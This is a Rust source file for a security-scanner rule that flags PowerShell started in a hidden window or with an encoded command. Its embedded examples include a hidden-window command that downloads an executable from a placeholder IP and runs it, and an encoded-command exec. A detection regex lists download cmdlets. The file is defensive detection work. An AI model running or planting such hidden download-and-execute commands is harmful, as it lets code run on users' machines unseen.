//! source-hidden-powershell: PowerShell is started unseen or with an encoded program.

use std::sync::LazyLock;

use regex::Regex;

use super::source_calls::report_calls;
use crate::{FactSink, Rule, RuleMeta};
use capdex_evidence::code::Call;
use capdex_evidence::code::sinks::text_of;
use capdex_evidence::subject::Subject;
use capdex_model::fact::{Confidence, Severity};

/// See the file's first line.
pub(super) struct SourceHiddenPowershell;

static META: LazyLock<RuleMeta> = LazyLock::new(|| toml::from_str(CARD).expect("the card is valid"));

const CARD: &str = r##"
id = "source-hidden-powershell"
version = 1
title = "PowerShell is started so that nobody sees what it does"
why = "A hidden window and an encoded program have one use together: to do what the user would stop."
fix = "Start programs in sight, with arguments that can be read."
cannot_see = "Programs that are encoded at run time, as some honest libraries do; other ways to hide a window."
severity = "high"
confidence = "high"
kinds = ["skill", "mcp_server", "hook", "plugin", "package"]
lifecycle = "stable"
cites = ["CWE-506", "AML.T0050", "owasp-mcp:MCP04"]
[[examples.fires]]
note = "An encoded program."
[examples.fires.files]
"a.js" = '''
require("child_process").exec("powershell -NoP -enc SQBuAHYAbwBrAGUALQBFAHgAcAByAGUAcwBzAGkAbwBuACAAMQA=");'''
[[examples.fires]]
note = "A hidden window that fetches."
[examples.fires.files]
"a.py" = '''
import subprocess
subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-Command", "iwr http://203.0.113.7/a.exe -OutFile a.exe; ./a.exe"])
'''
[[examples.silent]]
note = "A plain command."
[examples.silent.files]
"a.js" = '''
require("child_process").exec("powershell -Command Get-Date");'''
[[examples.silent]]
note = "Encoded at run time, so that quotes survive."
[examples.silent.files]
"a.js" = '''
const { spawn } = require("child_process"); export const f = (text) => spawn("powershell", ["-NoProfile", "-EncodedCommand", Buffer.from(text, "utf16le").toString("base64")]);'''
[[examples.silent]]
note = "A hidden window for a plain task."
[examples.silent.files]
"a.py" = '''
import subprocess
subprocess.run("powershell -WindowStyle Hidden -Command Get-Date")
'''
"##;

impl Rule for SourceHiddenPowershell {
    fn meta(&self) -> &RuleMeta {
        &META
    }

    fn check(&self, subject: &Subject<'_>, facts: &mut FactSink<'_>) {
        report_calls(subject, facts, |_, call| judgement(call));
    }
}

fn judgement(call: &Call) -> Option<(Severity, Confidence)> {
    let starts = ["child_process.", "subprocess.", "os.system", "os.popen", "execa", "asyncio.create_subprocess"]
        .iter()
        .any(|start| call.callee.starts_with(start));
    let mut text = String::new();
    for part in call.arguments.iter().filter_map(text_of) {
        text.push_str(part);
        text.push(' ');
    }
    (starts && HIDDEN.is_match(&text)).then_some((Severity::High, Confidence::High))
}

/// An encoded program as a literal, or a hidden window together with a download.
static HIDDEN: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?is-u)(?:powershell|pwsh)(?u:.){0,200}?\s-e(?:nc|ncodedcommand|c)?\s+[a-z0-9+/=]{40}|(?:powershell|pwsh)(?u:.){0,200}?\s-w(?:in|indowstyle)?\s+(?:hidden|h\b|1\b)(?u:.){0,300}?(?:\biwr\b|\birm\b|invoke-webrequest|downloadstring|downloadfile|start-bitstransfer|frombase64string)",
    )
    .expect("the pattern is fixed and valid")
});
